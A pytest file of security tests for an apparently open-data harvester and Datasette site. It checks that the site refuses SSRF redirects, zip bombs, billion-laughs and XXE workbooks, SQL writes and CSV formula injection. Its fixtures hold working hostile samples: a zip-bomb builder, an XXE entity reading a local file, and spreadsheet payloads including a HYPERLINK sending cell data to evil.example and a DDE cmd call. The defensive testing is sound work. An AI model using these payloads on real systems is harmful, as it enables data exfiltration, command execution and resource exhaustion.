"""Hostile input: URLs that are not the web, redirects into private networks, zip bombs, XML
bombs, writes and runaway queries against the site, and cells that would run in a spreadsheet.

docs/reliability.md "Security" says what each defence is; each has a test here.
"""

from __future__ import annotations

import asyncio
import csv
import importlib.util
import io
import json
import struct
import tracemalloc
import zipfile
from pathlib import Path
from urllib.parse import quote

import openpyxl
import pandas as pd
import pytest
from datasette.utils import format_bytes
from openpyxl import Workbook

from schemas.validate import report_file
from sources import tables
from sources.archive import Archive
from sources.demo_server import Fault, LocalServer
from sources.harvest import HarvestSettings, harvest_publisher, make_session
from sources.registry import Feed, Publisher
from tests.reliability.conftest import HEADER, payments_for, spend_csv
from tests.unit.test_tables import zip_bytes
from warehouse.serving import CONFIG_DIR, SETTINGS, datasette_arguments, make_datasette

CSV = spend_csv(payments_for("secure", 3))

# --- what the harvester fetches --------------------------------------------------------------


def publisher(*urls: str, feeds: tuple[Feed, ...] = ()) -> Publisher:
    return Publisher(id="secure", org_id="GB-TEST-SEC", name="Secure", kind="council",
                     feeds=feeds or (Feed("urls", urls=urls),))


def harvest(pub: Publisher, archive: Archive, settings: HarvestSettings):
    with make_session(settings) as session:
        return harvest_publisher(pub, archive, session, settings)


@pytest.fixture
def server(tmp_path):
    (tmp_path / "www" / "pub").mkdir(parents=True)
    (tmp_path / "www" / "pub" / "spend.csv").write_bytes(CSV)
    with LocalServer(tmp_path / "www") as running:
        yield running


@pytest.fixture
def archive(tmp_path) -> Archive:
    return Archive(tmp_path / "raw")


@pytest.mark.parametrize("url", [
    "file:///etc/passwd", "ftp://ftp.example.org/spend.csv", "gopher://example.org/1/spend",
    "data:text/csv,Supplier,Amount", "javascript:alert(1)", "//example.org/spend.csv",
])
def test_only_http_and_https_urls_are_fetched(archive, url):
    result = harvest(publisher(url), archive, HarvestSettings(allow_private=True))
    assert "only http(s) URLs are fetched" in result.error
    assert not list(archive.objects.rglob("*"))


def test_a_listing_page_cannot_point_the_harvester_at_a_local_file(server, archive):
    (server.root / "pub" / "index.html").write_text(
        '<a href="file:///etc/passwd.csv">April</a> <a href="spend.csv">May</a>')
    feed = Feed("index", url=f"{server.url}/pub/", pattern=r"\.csv$")
    result = harvest(publisher(feeds=(feed,)), archive, HarvestSettings(allow_private=True))
    assert [r.status for r in result.records] == ["error", "new"]
    assert "file:///etc/passwd.csv" in result.error and "only http(s)" in result.error


def test_private_addresses_are_refused_outside_test_and_demo_mode(server, archive):
    result = harvest(publisher(f"{server.url}/pub/spend.csv"), archive, HarvestSettings())
    assert "private address" in result.error
    assert server.answered() == []  # refused before a connection was made


@pytest.mark.parametrize("target", [
    "http://127.0.0.2/spend.csv", "http://localhost:{port}/pub/spend.csv",
    "http://[::1]:{port}/pub/spend.csv", "http://[::ffff:127.0.0.1]:{port}/pub/spend.csv",
    "http://0x7f000001:{port}/pub/spend.csv", "http://10.1.2.3/spend.csv",
    "http://172.16.0.1/spend.csv", "http://192.168.1.1/spend.csv",
    "http://169.254.169.254/latest/meta-data/", "http://100.64.0.1/spend.csv",
    "http://0.0.0.0:{port}/pub/spend.csv",
])
def test_a_redirect_into_a_private_network_is_refused(server, archive, target):
    # The server itself is trusted (as an intranet mirror would be); where it redirects is not.
    settings = HarvestSettings(trusted_hosts=frozenset({"127.0.0.1"}), retries=0)
    port = server.url.rsplit(":", 1)[1]
    server.faults["/pub/moved.csv"] = Fault(redirect=target.format(port=port))
    result = harvest(publisher(f"{server.url}/pub/moved.csv"), archive, settings)
    assert "is a private address" in result.error
    assert server.answered() == [("GET", "/pub/moved.csv", 302)]  # the redirect went no further


def test_a_redirect_to_a_public_looking_name_is_still_checked(server, archive):
    settings = HarvestSettings(trusted_hosts=frozenset({"127.0.0.1"}), retries=0)
    server.faults["/pub/moved.csv"] = Fault(redirect="file:///etc/passwd")
    result = harvest(publisher(f"{server.url}/pub/moved.csv"), archive, settings)
    assert "only http(s) URLs are fetched" in result.error


# --- zip bombs and XML bombs -----------------------------------------------------------------


def xlsx_bytes(rows: list[list]) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def ods_bytes() -> bytes:
    out = io.BytesIO()
    pd.DataFrame({"Supplier Name": ["ACME LTD"], "Payment Date": ["01/04/2025"],
                  "Amount": ["10.00"]}).to_excel(out, engine="odf", index=False)
    return out.getvalue()


def rewrite(raw: bytes, member: str, change) -> bytes:
    """The same ZIP-based file with one member's bytes changed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as source, zipfile.ZipFile(
            out, "w", zipfile.ZIP_DEFLATED) as target:
        assert member in source.namelist()
        for info in source.infolist():
            data = source.read(info)
            target.writestr(info.filename, change(data) if info.filename == member else data)
    return out.getvalue()


def declare_size(raw: bytes, member: str, size: int) -> bytes:
    """The same file with the central directory claiming `member` unpacks to `size` bytes."""
    data = bytearray(raw)
    name = member.encode()
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        length = struct.unpack_from("<H", data, at + 28)[0]
        if bytes(data[at + 46 : at + 46 + length]) == name:
            struct.pack_into("<I", data, at + 24, size)
            return bytes(data)
        at += 4
    raise AssertionError(f"{member} not in the archive")


def bomb_zip(member: str, unpacked: int) -> bytes:
    """A real zip bomb: `unpacked` bytes of zeros, deflated a thousand to one, built in pieces."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open(member, "w", force_zip64=True) as stream:
            piece = b"0" * (1 << 20)
            for _ in range(unpacked >> 20):
                stream.write(piece)
    return out.getvalue()


def refusal(tmp_path: Path, name: str, raw: bytes) -> tuple[str, int]:
    """Validate a file as loading does; the failure and the peak memory spent on it."""
    path = tmp_path / name
    path.write_bytes(raw)
    tracemalloc.start()
    try:
        report = report_file(path)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return report.failure or "", peak


def test_a_real_zip_bomb_is_refused_from_its_directory_without_unpacking(tmp_path, monkeypatch):
    monkeypatch.setitem(tables.UNPACKED_CAPS, "zip", 4 << 20)  # the real cap is 2 GiB
    raw = bomb_zip("spend.csv", 64 << 20)
    assert len(raw) < 128 << 10  # 64 MiB in under 128 KiB
    failure, peak = refusal(tmp_path, "bomb.zip", raw)
    assert "bomb.zip: unpacks to 67,108,864 bytes, over the 4,194,304 byte cap" in failure
    assert peak < 8 << 20


@pytest.mark.parametrize("name, raw, member", [
    ("spend.zip", None, "spend.csv"),
    ("spend.xlsx", xlsx_bytes([["Supplier Name", "Amount"], ["ACME", 1]]),
     "xl/worksheets/sheet1.xml"),
    ("spend.ods", ods_bytes(), "content.xml"),
])
def test_a_file_claiming_to_unpack_past_the_real_cap_is_refused(tmp_path, name, raw, member):
    if raw is None:
        raw = zip_bytes({"spend.csv": CSV})
    huge = 3 << 30 if name != "spend.ods" else 300 << 20
    failure, peak = refusal(tmp_path, name, declare_size(raw, member, huge))
    assert f"{name}: unpacks to" in failure and "byte cap" in failure
    assert peak < 8 << 20


def test_an_xlsx_whose_xml_unpacks_past_the_cap_is_refused(tmp_path, monkeypatch):
    monkeypatch.setitem(tables.UNPACKED_CAPS, "xlsx", 8 << 20)
    padding = b"<!--" + b" " * (32 << 20) + b"-->"
    raw = rewrite(xlsx_bytes([["Supplier Name", "Amount"], ["ACME", 1]]),
                  "xl/worksheets/sheet1.xml", lambda xml: xml.replace(b"<sheetData>",
                                                                      padding + b"<sheetData>"))
    assert len(raw) < 1 << 20
    failure, peak = refusal(tmp_path, "padded.xlsx", raw)
    assert "padded.xlsx: unpacks to" in failure and "over the 8,388,608 byte cap" in failure
    assert peak < 8 << 20


def test_a_directory_that_understates_a_member_cannot_unpack_more(tmp_path):
    # The directory says 1 MiB; the member really holds 32 MiB. zipfile stops at the size it
    # was told and reports a bad CRC: the file is refused as damaged, with little memory.
    raw = declare_size(bomb_zip("spend.csv", 32 << 20), "spend.csv", 1 << 20)
    failure, peak = refusal(tmp_path, "liar.zip", raw)
    assert "liar.zip" in failure and "damaged" in failure
    assert peak < 16 << 20


LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;")
                                                 * 10) for n in range(1, 10))
          + b"]>")


def with_doctype(xml: bytes, doctype: bytes, value: bytes, entity: bytes) -> bytes:
    """Put a DOCTYPE before the root element and replace `value` with an entity reference."""
    start = xml.index(b"?>") + 2 if xml.startswith(b"<?xml") else 0
    return xml[:start] + doctype + xml[start:].replace(value, entity, 1)


@pytest.fixture
def secret(tmp_path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text("TOP-SECRET-CONTENTS")
    return path


def xml_attacks(secret: Path) -> list[tuple[str, bytes]]:
    xxe = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "' + secret.as_uri().encode() + b'">]>'
    book = xlsx_bytes([["Supplier Name", "Payment Date", "Amount"],
                       ["ACME LTD", "01/04/2025", 12345]])
    ods = ods_bytes()
    return [
        ("laughs.xlsx", rewrite(book, "xl/worksheets/sheet1.xml",
                                lambda x: with_doctype(x, LAUGHS, b"12345", b"&lol9;"))),
        ("laughs-workbook.xlsx", rewrite(book, "xl/workbook.xml",
                                         lambda x: with_doctype(x, LAUGHS, b'name="Sheet"',
                                                                b'name="&lol9;"'))),
        ("xxe.xlsx", rewrite(book, "xl/worksheets/sheet1.xml",
                             lambda x: with_doctype(x, xxe, b"ACME LTD", b"&xxe;"))),
        ("laughs.ods", rewrite(ods, "content.xml",
                               lambda x: with_doctype(x, LAUGHS, b"ACME LTD", b"&lol9;"))),
        ("xxe.ods", rewrite(ods, "content.xml",
                            lambda x: with_doctype(x, xxe, b"ACME LTD", b"&xxe;"))),
    ]


@pytest.mark.parametrize("case", range(5), ids=["laughs.xlsx", "laughs-workbook.xlsx",
                                                 "xxe.xlsx", "laughs.ods", "xxe.ods"])
def test_workbook_xml_with_entities_is_refused_unexpanded(tmp_path, secret, case):
    name, raw = xml_attacks(secret)[case]
    failure, peak = refusal(tmp_path, name, raw)
    assert f"{name}: the " in failure and "refused as unsafe" in failure
    assert "TOP-SECRET" not in failure
    assert peak < 32 << 20  # a billion laughs would need gigabytes


def test_openpyxl_parses_through_defusedxml():
    # openpyxl uses defusedxml only when it is installed; it is a declared dependency.
    assert openpyxl.DEFUSEDXML is True
    dependencies = (Path(__file__).resolve().parents[2] / "pyproject.toml").read_text()
    assert '"defusedxml' in dependencies


# --- the published site ----------------------------------------------------------------------

FORMULAS = [
    # (payee, purpose, pence)
    ('=HYPERLINK("http://evil.example/?"&A1,"Click for refund")', "Refund", 12_345),
    ("+44 113 496 0000 Plumbing", "=cmd|' /C calc'!A0", 5_000),
    ("-Minus Supplies Ltd", "@SUM(1+1)*cmd|' /C calc'!A0", -1_250),
    ("@Handle Media", "+Tip: call 0113 496 0000", 60_000),
    ("ACME LTD", "-12.50", -1_250),
]


def formula_csv() -> bytes:
    lines = [HEADER.strip() + ",Purpose\n"]
    for number, (payee, purpose, pence) in enumerate(FORMULAS, start=1):
        sign = "-" if pence < 0 else ""
        amount = f"{sign}{abs(pence) // 100}.{abs(pence) % 100:02d}"
        cells = [payee, f"{number:02d}/04/2025", amount, "Parks", purpose]
        lines.append(",".join('"' + c.replace('"', '""') + '"' for c in cells) + "\n")
    return "".join(lines).encode()


@pytest.fixture(scope="module")
def site(make_web, tmp_path_factory):
    web = make_web(tmp_path_factory.mktemp("secure-site"))
    (web.www / "formula-council").mkdir()
    (web.www / "formula-council" / "spend.csv").write_bytes(formula_csv())
    web.register("formula-council", [{"kind": "urls", "urls": [web.url("formula-council")]}])
    [summary] = web.run().values()
    assert (summary.status, summary.rows) == ("ok", len(FORMULAS)), summary.message
    datasette = make_datasette(web.data / "site")
    yield datasette, web.data / "site"
    for database in datasette.databases.values():
        database.close()


def get(site, path: str):
    return asyncio.run(site[0].client.get(path))


def query(site, sql: str):
    return get(site, f"/moneytrail.json?sql={quote(sql)}&_shape=array")


def test_every_published_database_is_immutable(site):
    datasette, site_dir = site
    served = {name: db for name, db in datasette.databases.items() if name != "_internal"}
    assert set(served) == {p.stem for p in site_dir.glob("*.db")}
    assert not any(db.is_mutable for db in served.values())
    arguments = datasette_arguments(site_dir)
    databases = [str(p) for p in sorted(site_dir.glob("*.db"))]
    assert [arguments[arguments.index(d) - 1] for d in databases] == ["-i"] * len(databases)


def test_the_site_has_an_sql_time_limit(site):
    assert SETTINGS["sql_time_limit_ms"] == "3000"
    assert site[0].setting("sql_time_limit_ms") == 3000


def test_every_database_downloads_whole_with_its_size_stated(site):
    datasette, site_dir = site
    for path in sorted(site_dir.glob("*.db")):
        download = get(site, f"/{path.stem}.db")
        assert download.status_code == 200, path.name
        assert download.content == path.read_bytes()
        page = get(site, f"/{path.stem}")
        assert f'href="/{path.stem}.db"' in page.text
        assert format_bytes(path.stat().st_size) in page.text
    landing = get(site, "/publisher/formula-council")
    size = format_bytes((site_dir / "formula-council.db").stat().st_size)
    assert 'href="/formula-council.db"' in landing.text and f"({size})" in landing.text


@pytest.mark.parametrize("sql", [
    "insert into publishers (id) values ('x')", "delete from payments",
    "update payments set amount_pence = 0", "drop table payments",
    "attach database '/tmp/x.db' as x", "pragma query_only = 0",
    "select 1; delete from payments",
])
def test_writes_through_the_query_page_are_refused(site, sql):
    count = "select count(*) as n from payments"
    before = query(site, count).json()
    assert query(site, sql).status_code == 400
    assert before == query(site, count).json() == [{"n": len(FORMULAS)}]


def test_the_databases_cannot_be_written_even_from_inside(site):
    database = site[0].get_database("moneytrail")
    with pytest.raises(Exception, match="readonly|read-only|immutable"):
        asyncio.run(database.execute("delete from payments"))
    with pytest.raises(AssertionError):
        asyncio.run(database.execute_write("delete from payments"))


def test_no_canned_query_writes(site):
    metadata = json.loads((site[1] / "metadata.json").read_text())
    queries = [q for db in metadata.get("databases", {}).values()
               for q in (db.get("queries") or {}).values()]
    assert queries and not any(isinstance(q, dict) and q.get("write") for q in queries)


def test_a_runaway_query_is_cut_off_by_the_time_limit(site):
    endless = ("with recursive counter(n) as (select 1 union all select n + 1 from counter) "
               "select count(*) from counter")
    answer = query(site, endless)
    assert answer.status_code == 400
    assert "SQL query took too long" in answer.text


# --- the spreadsheet-safe export -------------------------------------------------------------


def plugin():
    spec = importlib.util.spec_from_file_location("safe_csv", CONFIG_DIR / "plugins" /
                                                  "safe_csv.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


@pytest.mark.parametrize("cell, safe", [
    ("=SUM(A1:A9)", "'=SUM(A1:A9)"),
    ("+44 113 496 0000", "'+44 113 496 0000"),
    ("-Minus Supplies Ltd", "'-Minus Supplies Ltd"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\tTabbed", "'\tTabbed"),
    ("\rReturn", "'\rReturn"),
    ("-1+1", "'-1+1"),
    ("-12.50", "-12.50"),
    ("-1250", "-1250"),
    ("+12", "+12"),
    ("-1.5e3", "-1.5e3"),
    ("ACME LTD", "ACME LTD"),
    ("", ""),
    ("'already quoted", "'already quoted"),
])
def test_spreadsheet_safe_cells(cell, safe):
    assert plugin().spreadsheet_safe(cell) == safe


def spreadsheet_rows(answer) -> list[dict]:
    assert answer.status_code == 200, answer.text
    text = answer.text
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def test_the_spreadsheet_export_defuses_formulas_and_keeps_numbers(site):
    answer = get(site, "/moneytrail/payments.spreadsheet?_stream=on&_sort=source_row")
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"] == 'attachment; filename="payments.csv"'
    rows = spreadsheet_rows(answer)
    assert [(r["beneficiary_name"], r["purpose"], r["amount_pence"]) for r in rows] == [
        ("'" + payee if payee[0] in "=+-@" else payee,
         "'" + purpose if purpose[0] in "=+-@" and purpose != "-12.50" else purpose,
         str(pence)) for payee, purpose, pence in FORMULAS]


def test_the_default_csv_keeps_the_data_exactly(site):
    answer = get(site, "/moneytrail/payments.csv?_stream=on&_sort=source_row")
    rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))
    assert [r["beneficiary_name"] for r in rows] == [payee for payee, _, _ in FORMULAS]


def test_the_spreadsheet_export_follows_filters_and_canned_queries(site):
    filtered = spreadsheet_rows(get(site, "/moneytrail/payments.spreadsheet?amount_pence__lt=0"))
    assert {r["amount_pence"] for r in filtered} == {"-1250"}
    canned = spreadsheet_rows(get(site, "/moneytrail/top_suppliers.spreadsheet"
                                        "?publisher=formula-council"))
    names = [next(iter(r.values())) for r in canned]
    assert canned and not any(n.startswith(("=", "+", "-", "@")) for n in names)


def test_table_and_publisher_pages_link_to_the_spreadsheet_export(site):
    page = get(site, "/moneytrail/payments")
    assert 'href="/moneytrail/payments.spreadsheet' in page.text
    landing = get(site, "/publisher/formula-council").text
    link = "/formula-council/payments.spreadsheet?_stream=on"
    assert f'href="{link}"' in landing
    rows = spreadsheet_rows(get(site, link))
    assert len(rows) == len(FORMULAS)
    assert "'=HYPERLINK" in {r["beneficiary_name"][:11] for r in rows}
